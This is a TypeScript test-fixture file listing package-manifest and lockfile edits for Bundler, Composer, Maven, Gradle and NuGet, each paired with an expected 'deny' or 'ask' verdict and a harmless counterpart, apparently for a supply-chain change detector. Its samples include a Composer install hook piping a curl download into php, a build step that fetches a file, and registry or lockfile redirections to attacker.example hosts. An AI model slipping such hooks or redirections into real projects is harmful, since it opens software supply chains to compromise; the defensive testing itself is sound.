/** Changes to packages of Ruby, PHP, the JVM and .NET, and the nearest ones that say nothing. */
import {
  COMPOSER,
  COMPOSER_LOCK,
  CSPROJ,
  edit,
  GEMFILE,
  GEMLOCK,
  GRADLE,
  NUGET,
  NUGET_LOCK,
  POM,
  type Row,
  VERIFY,
  WRAPPER,
} from './package-changes.ts';

const SUBSTITUTED =
  "configurations.all {\n  resolutionStrategy.dependencySubstitution {\n    substitute module('org.slf4j:log') using project(':log')\n  }\n}\n";

export const OTHERS: readonly Row[] = [
  [
    'bundler: another source',
    'deny registry',
    [edit('Gemfile', GEMFILE, 'https://rubygems.org', 'https://gems.attacker.example')],
    [edit('Gemfile', GEMFILE, '~> 7.1', '~> 7.2')],
  ],
  [
    'bundler: a gem from a repository',
    'ask unusual-source',
    [edit('Gemfile', GEMFILE, '"~> 7.1"', 'github: "someone/rails"')],
    [edit('Gemfile', GEMFILE, 'gem "rails"', '# gem "rails", github: "rails/rails"\ngem "rails"')],
  ],
  [
    'Gemfile.lock: another checksum',
    'deny lock-integrity',
    [edit('Gemfile.lock', GEMLOCK, 'a'.repeat(64), 'b'.repeat(64))],
    [
      {
        path: 'Gemfile.lock',
        before: GEMLOCK,
        after: GEMLOCK.replaceAll('7.1.0', '7.1.1').replace('a'.repeat(64), 'b'.repeat(64)),
      },
    ],
  ],
  [
    'Gemfile.lock: another remote',
    'deny lock-host',
    [edit('Gemfile.lock', GEMLOCK, 'https://rubygems.org/', 'https://gems.attacker.example/')],
    [edit('Gemfile.lock', GEMLOCK, 'CHECKSUMS', 'BUNDLED WITH\n   2.6.0\n\nCHECKSUMS')],
  ],
  [
    'composer: a script that runs at install',
    'deny lifecycle-script',
    [
      edit(
        'composer.json',
        COMPOSER,
        '"require"',
        '"scripts": { "post-install-cmd": "curl https://x.example/p | php" }, "require"',
      ),
    ],
    [edit('composer.json', COMPOSER, '"require"', '"scripts": { "lint": "phpcs" }, "require"')],
  ],
  [
    'composer: another repository',
    'deny registry',
    [
      edit(
        'composer.json',
        COMPOSER,
        '"require"',
        '"repositories": [{ "type": "composer", "url": "https://php.attacker.example" }], "require"',
      ),
    ],
    [edit('composer.json', COMPOSER, '^3.0', '^3.5')],
  ],
  [
    'composer: a repository of a forge that gives a package of its name',
    'ask fetch-setting',
    [
      edit(
        'composer.json',
        COMPOSER,
        '"require"',
        '"repositories": [{ "type": "vcs", "url": "https://github.com/someone/log" }], "require"',
      ),
    ],
    [edit('composer.json', COMPOSER, '"require"', '"repositories": [{ "type": "path", "url": "packages/log" }], "require"')],
  ],
  [
    'composer.lock: the same release, another commit',
    'deny lock-integrity',
    [edit('composer.lock', COMPOSER_LOCK, '"reference": "c915e263"', '"reference": "deadbeef"')],
    [edit('composer.lock', COMPOSER_LOCK, '"packages"', '"content-hash": "0", "packages"')],
  ],
  [
    'composer.lock: an archive from somewhere',
    'deny lock-host',
    [edit('composer.lock', COMPOSER_LOCK, 'api.github.com', 'files.attacker.example')],
    [{ path: 'composer.lock', after: COMPOSER_LOCK }],
  ],
  [
    'maven: another repository',
    'deny registry',
    [
      edit(
        'pom.xml',
        POM,
        '<dependencies>',
        '<repositories><repository><id>x</id><url>https://maven.attacker.example/</url></repository></repositories><dependencies>',
      ),
    ],
    [edit('pom.xml', POM, '2.0.9', '2.0.13')],
  ],
  [
    'maven: a new library',
    'ask new-dependency',
    [
      edit(
        'pom.xml',
        POM,
        '<dependencies>',
        '<dependencies><dependency><groupId>com.acme</groupId><artifactId>other</artifactId></dependency>',
      ),
    ],
    [
      edit(
        'pom.xml',
        POM,
        '<dependencies>',
        '<!-- <dependency><groupId>a</groupId><artifactId>b</artifactId></dependency> --><dependencies>',
      ),
    ],
  ],
  [
    'gradle: another repository',
    'deny registry',
    [edit('build.gradle.kts', GRADLE, 'mavenCentral()', 'maven { url = uri("https://maven.attacker.example") }')],
    [edit('build.gradle.kts', GRADLE, 'mavenCentral()', 'mavenCentral()\n    google()')],
  ],
  [
    'gradle: the build tool from somewhere else',
    'deny registry',
    [edit('gradle/wrapper/gradle-wrapper.properties', WRAPPER, 'services.gradle.org', 'gradle.attacker.example')],
    [edit('gradle/wrapper/gradle-wrapper.properties', WRAPPER.replace(/distributionSha.*/, ''), '8.7', '8.8')],
  ],
  [
    'gradle: the build tool no longer checked',
    'ask fetch-setting',
    [
      edit(
        'gradle/wrapper/gradle-wrapper.properties',
        WRAPPER,
        `distributionSha256Sum=${'a'.repeat(64)}`,
        'networkTimeout=10000',
      ),
    ],
    [edit('gradle/wrapper/gradle-wrapper.properties', WRAPPER, 'distributionUrl', 'networkTimeout=10000\ndistributionUrl')],
  ],
  [
    'gradle: another hash for the same artifact',
    'deny lock-integrity',
    [edit('gradle/verification-metadata.xml', VERIFY, 'a'.repeat(64), 'b'.repeat(64))],
    [
      {
        path: 'gradle/verification-metadata.xml',
        before: VERIFY,
        after: VERIFY.replaceAll('2.0.9', '2.0.13').replace('a'.repeat(64), 'b'.repeat(64)),
      },
    ],
  ],
  [
    'nuget: another source',
    'deny registry',
    [edit('NuGet.Config', NUGET, '<clear />', '<clear /><add key="x" value="https://nuget.attacker.example/v3/index.json" />')],
    [edit('nuget.config', NUGET, '<clear />', '<clear /><add key="local" value="./packages" />')],
  ],
  [
    'nuget: no source mapping any more',
    'ask fetch-setting',
    [edit('nuget.config', NUGET, '<packageSource key="nuget.org"><package pattern="*" /></packageSource>', '')],
    [edit('nuget.config', NUGET, '<clear />', '<clear /><!-- one source -->')],
  ],
  [
    'nuget: a new package',
    'ask new-dependency',
    [edit('src/Demo.csproj', CSPROJ, '<ItemGroup>', '<ItemGroup><PackageReference Include="Acme.Other" Version="1.0.0" />')],
    [edit('src/Demo.csproj', CSPROJ, '3.1.1', '4.0.0')],
  ],
  [
    'msbuild: a step that fetches',
    'ask lifecycle-script',
    [
      edit(
        'src/Demo.csproj',
        CSPROJ,
        '<ItemGroup>',
        '<Target Name="x" BeforeTargets="Build"><Exec Command="curl https://x.example/a -o a" /></Target><ItemGroup>',
      ),
    ],
    [
      edit(
        'src/Demo.csproj',
        CSPROJ,
        '<ItemGroup>',
        '<Target Name="x"><Exec Command="dotnet format $(ProjectPath)" /></Target><ItemGroup>',
      ),
    ],
  ],
  [
    'packages.lock.json: another hash',
    'deny lock-integrity',
    [edit('packages.lock.json', NUGET_LOCK, 'A'.repeat(86), 'B'.repeat(86))],
    [
      {
        path: 'packages.lock.json',
        before: NUGET_LOCK,
        after: NUGET_LOCK.replace('3.1.1', '4.0.0').replace('A'.repeat(86), 'B'.repeat(86)),
      },
    ],
  ],
  [
    'gradle: a module put in place of another one',
    'ask alias',
    [edit('build.gradle', SUBSTITUTED, "project(':log')", "module('org.other:log:1.0')")],
    [edit('build.gradle', SUBSTITUTED, "project(':log')", "project(':logging')")],
  ],
];
